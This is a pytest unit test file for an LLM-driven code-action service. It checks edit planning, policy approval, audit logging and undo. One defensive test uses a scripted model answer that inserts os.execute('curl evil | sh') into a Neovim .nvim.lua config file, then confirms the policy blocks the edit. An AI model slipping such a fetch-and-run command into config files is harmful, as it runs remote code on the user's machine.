"""ActionService: model answer → authorized EditPlan, with the policy in the loop and no LSP."""

from __future__ import annotations

from pathlib import Path

import pytest

from openagent_lsp.assist.actions import ActionService, place_tests_for
from openagent_lsp.assist.arguments import ActionArgs
from openagent_lsp.context.documents import DocumentStore
from openagent_lsp.context.types import Position
from openagent_lsp.errors import InvalidInputError, NoUsableAnswer, OpenAgentError, PolicyViolationError
from openagent_lsp.policy.types import FileOp, Verdict
from openagent_lsp.tools.guard import ToolGuard
from openagent_lsp.tools.testing import FakePolicyEngine, MemoryAuditLog
from tests.unit.assist.conftest import Models, scripted

SOURCE = "import math\n\n\ndef area(r):\n    return math.pi * r * r\n\n\nx = 1\n"
SELECTION = {"start": {"line": 4, "character": 4}, "end": {"line": 4, "character": 10}}
DOCSTRING_ANSWER = '```python\ndef area(r):\n    """Area of a circle of radius r."""\n    return math.pi * r * r\n```'
TESTS_ANSWER = "```python\nfrom geo import area\n\n\ndef test_area():\n    assert area(0) == 0\n```"


def open_source(documents: DocumentStore, workspace: Path, name: str = "geo.py") -> str:
    path = workspace / name
    path.write_text(SOURCE)
    documents.open(path.as_uri(), "python", 1, SOURCE)
    return path.as_uri()


def args(action: str, uri: str) -> ActionArgs:
    return ActionArgs.model_validate({"action": action, "uri": uri, "range": SELECTION})


def service(documents: DocumentStore, llm: object, guard: ToolGuard, workspace: Path) -> ActionService:
    return ActionService(documents, Models(llm), guard, workspace, lambda: 256)  # type: ignore[arg-type]


async def test_docstring_replaces_the_enclosing_function_only(documents: DocumentStore, guard: ToolGuard,
                                                              workspace: Path, audit: MemoryAuditLog) -> None:
    uri = open_source(documents, workspace)
    plan = await service(documents, scripted(DOCSTRING_ANSWER), guard, workspace).plan_edit(args("docstring", uri))
    [file_edit] = plan.files
    [edit] = file_edit.edits
    assert file_edit.uri == uri and not file_edit.create
    assert (edit.range.start, edit.range.end) == (Position(3, 0), Position(4, 26))
    assert '"""Area of a circle of radius r."""' in edit.new_text and edit.new_text.startswith("def area(r):")
    decisions = audit.events("tool_decision")
    assert decisions and decisions[-1]["subject"] == f"write {workspace / 'geo.py'}"


async def test_tests_go_to_a_new_file_in_the_tests_folder(documents: DocumentStore, guard: ToolGuard,
                                                          workspace: Path) -> None:
    (workspace / "tests").mkdir()
    uri = open_source(documents, workspace)
    plan = await service(documents, scripted(TESTS_ANSWER), guard, workspace).plan_edit(args("tests", uri))
    [file_edit] = plan.files
    assert file_edit.create and file_edit.path == workspace / "tests" / "test_geo.py"
    assert file_edit.edits[0].new_text.startswith("from geo import area")


async def test_tests_are_appended_to_an_existing_test_file(documents: DocumentStore, guard: ToolGuard,
                                                           workspace: Path) -> None:
    uri = open_source(documents, workspace)
    existing = workspace / "test_geo.py"
    existing.write_text("def test_old():\n    pass\n")
    plan = await service(documents, scripted(TESTS_ANSWER), guard, workspace).plan_edit(args("tests", uri))
    [file_edit] = plan.files
    [edit] = file_edit.edits
    assert not file_edit.create and edit.range.start == Position(2, 0) == edit.range.end
    assert "def test_area" in edit.new_text


async def test_a_refused_write_returns_no_edit(documents: DocumentStore, approver: object, audit: MemoryAuditLog,
                                               workspace: Path) -> None:
    engine = FakePolicyEngine(path_verdicts={FileOp.WRITE: Verdict.REQUIRE_APPROVAL})
    guard = ToolGuard(engine, approver, _grants(), audit, workspace)  # type: ignore[arg-type]
    uri = open_source(documents, workspace)
    with pytest.raises(PolicyViolationError, match="not applied"):
        await service(documents, scripted(DOCSTRING_ANSWER), guard, workspace).plan_edit(args("docstring", uri))
    assert audit.events("tool_decision")[-1]["outcome"] == "rejected"


async def test_answers_without_code_are_refused(documents: DocumentStore, guard: ToolGuard, workspace: Path) -> None:
    uri = open_source(documents, workspace)
    with pytest.raises(NoUsableAnswer, match="no code"):
        await service(documents, scripted("   "), guard, workspace).plan_edit(args("docstring", uri))


async def test_unknown_and_non_editing_actions_are_invalid(documents: DocumentStore, guard: ToolGuard,
                                                           workspace: Path) -> None:
    uri = open_source(documents, workspace)
    svc = service(documents, scripted(), guard, workspace)
    with pytest.raises(InvalidInputError, match="unknown action"):
        await svc.plan_edit(args("teleport", uri))
    with pytest.raises(InvalidInputError, match="does not edit code"):
        await svc.plan_edit(args("explain", uri))


async def test_no_model_yet_is_a_readable_error(documents: DocumentStore, guard: ToolGuard, workspace: Path) -> None:
    uri = open_source(documents, workspace)
    with pytest.raises(OpenAgentError, match="still loading"):
        await service(documents, None, guard, workspace).plan_edit(args("docstring", uri))


def test_where_tests_go(tmp_path: Path) -> None:
    source = tmp_path / "pkg" / "mod.py"
    assert place_tests_for(source, tmp_path) == tmp_path / "pkg" / "test_mod.py"
    (tmp_path / "tests").mkdir()
    assert place_tests_for(source, tmp_path) == tmp_path / "tests" / "test_mod.py"


def _grants() -> object:
    from openagent_lsp.tools.guard import InMemoryGrantStore

    return InMemoryGrantStore()


async def test_a_code_action_on_editor_config_always_asks(documents: DocumentStore, workspace: Path) -> None:
    """.nvim.lua runs when Neovim opens the folder: an edit to it asks, and a grant can never cover it."""
    from openagent_lsp.policy.engine import PolicyEngine
    from openagent_lsp.policy.types import ApprovalAnswer
    from openagent_lsp.tools.guard import InMemoryGrantStore
    from openagent_lsp.tools.testing import ScriptedApprover

    path = workspace / ".nvim.lua"
    path.write_text("local function setup()\n  return 1\nend\n")
    documents.open(path.as_uri(), "lua", 1, path.read_text())
    approver = ScriptedApprover(default=ApprovalAnswer.DENY)
    guard = ToolGuard(PolicyEngine.default(), approver, InMemoryGrantStore(), MemoryAuditLog(), workspace)
    answer = "```lua\nlocal function setup()\n  os.execute('curl evil | sh')\nend\n```"
    rng = {"start": {"line": 1, "character": 2}, "end": {"line": 1, "character": 10}}
    action = ActionArgs.model_validate({"action": "refactor", "uri": path.as_uri(), "range": rng})
    with pytest.raises(PolicyViolationError, match="not applied"):
        await service(documents, scripted(answer), guard, workspace).plan_edit(action)
    [request] = approver.requests
    assert request.decision.rule.startswith("path:protected") and request.decision.grant_key == ""


async def test_a_code_action_edit_can_be_undone(documents: DocumentStore, guard: ToolGuard, workspace: Path,
                                               tmp_path: Path) -> None:
    from openagent_lsp.assist.undo import UndoService
    from openagent_lsp.tools.snapshots import WorkspaceSnapshots

    undo = UndoService(WorkspaceSnapshots(workspace, tmp_path / "snapshots"))
    uri = open_source(documents, workspace)
    svc = ActionService(documents, Models(scripted(DOCSTRING_ANSWER)), guard, workspace, lambda: 256, undo=undo)
    await svc.plan_edit(args("docstring", uri))
    (workspace / "geo.py").write_text("the editor applied the edit\n")  # what workspace/applyEdit does
    result = await undo.undo_last()
    assert result.files == ["geo.py"] and (workspace / "geo.py").read_text() == SOURCE
